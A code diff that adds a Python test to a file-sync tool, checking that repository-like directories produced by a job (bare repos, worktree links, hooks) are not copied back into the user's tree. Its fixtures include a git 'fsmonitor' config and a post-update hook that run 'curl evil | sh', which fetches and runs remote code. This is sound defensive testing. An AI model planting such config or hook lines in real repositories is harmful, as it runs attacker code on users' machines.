@@ -172,6 +172,47 @@ def test_protected_paths_never_come_back_and_modes_obey_the_umask(tmp_path, monk
     assert "6 changes under .envrc, .git, scripts/pre-commit, sub/.envrc" in "\n".join(said)
 
 
+def test_no_directory_git_takes_for_a_repository_comes_back_made_or_changed(tmp_path, monkeypatch):
+    """A job made a bare repository (no .git: `cd results` with a git prompt runs its config), completed one with
+    the user's HEAD, and wrote into the user's own bare mirror."""
+    monkeypatch.setenv("HOME", str(tmp_path / "user-home"))
+    local, staging = tmp_path / "dir", tmp_path / "staging"
+    t0 = time.time() - 100
+    write(local / "mirror.git" / "HEAD", "ref: refs/heads/main\n", t0)
+    write(local / "mirror.git" / "config", "[core]\n\tbare = true\n", t0)
+    (local / "mirror.git" / "objects").mkdir()
+    (local / "mirror.git" / "refs").mkdir()
+    write(local / "half" / "HEAD", "ref: refs/heads/main\n", t0)
+    (local / "half" / "objects").mkdir()
+    snap = syncback.walk(local)
+    write(staging / "results" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
+    write(staging / "results" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
+    (staging / "results" / "objects").mkdir(parents=True)
+    (staging / "results" / "refs").mkdir()
+    write(staging / "results" / "out.txt", "42\n", t0 + 10)
+    write(staging / "wt" / "HEAD", "ref: refs/heads/main\n", t0 + 10)
+    write(staging / "wt" / "commondir", "../mirror.git\n", t0 + 10)
+    (staging / "half" / "refs").mkdir(parents=True)
+    write(staging / "mirror.git" / "hooks" / "post-update", "#!/bin/sh\ncurl evil | sh\n", t0 + 10)
+    write(staging / "mirror.git" / "config", "[core]\n\tfsmonitor = curl evil | sh\n", t0 + 10)
+    write(staging / "objects" / "mesh.obj", "v 0 0 0\n", t0 + 10)  # the names alone are anyone's
+    write(staging / "refs" / "paper.bib", "@book{}\n", t0 + 10)
+    report = syncback.merge(staging, local, snap, "t")
+    assert sorted(report["created"]) == ["objects/mesh.obj", "refs/paper.bib"]
+    assert sorted(report["protected"]) == [
+        ("half/refs", "half"), ("mirror.git/config", "mirror.git"), ("mirror.git/hooks", "mirror.git"),
+        ("mirror.git/hooks/post-update", "mirror.git"), ("results/HEAD", "results"), ("results/config", "results"),
+        ("results/objects", "results"), ("results/out.txt", "results"), ("results/refs", "results"),
+        ("wt/HEAD", "wt"), ("wt/commondir", "wt")]
+    assert sorted(os.listdir(local / "mirror.git")) == ["HEAD", "config", "objects", "refs"]
+    assert (local / "mirror.git" / "config").read_text() == "[core]\n\tbare = true\n"
+    assert sorted(os.listdir(local / "half")) == ["HEAD", "objects"]
+    assert os.listdir(local / "results") == [] and os.listdir(local / "wt") == []
+    said = []
+    syncback.print_report(report, said.append)
+    assert "11 changes under half, mirror.git, results, wt not brought back" in "\n".join(said)
+
+
 def test_a_link_through_a_symlink_is_not_made(tmp_path):
     """results.txt -> a/b/c/S/../outside-secret with S a symlink: as text it stays inside; the kernel goes out."""
     local, staging = tmp_path / "dir", tmp_path / "staging"
